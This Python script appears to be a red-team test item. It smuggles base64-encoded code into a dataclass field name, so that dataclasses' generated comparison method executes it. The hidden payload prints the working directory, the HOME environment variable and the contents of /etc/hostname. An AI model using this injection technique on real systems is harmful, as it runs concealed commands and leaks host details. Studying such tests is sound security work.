# family: red team, round 51a (a tool subclass of dataclasses.Field renames itself in its own method)
import base64
import dataclasses


class MyField(dataclasses.Field):
    def rename(self, value):
        self.name = value


@dataclasses.dataclass
class A:
    x: int = MyField(0, dataclasses.MISSING, True, True, None, True, None, False)


def main():
    first = dataclasses.fields(A)[0]
    first.rename(base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode())

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
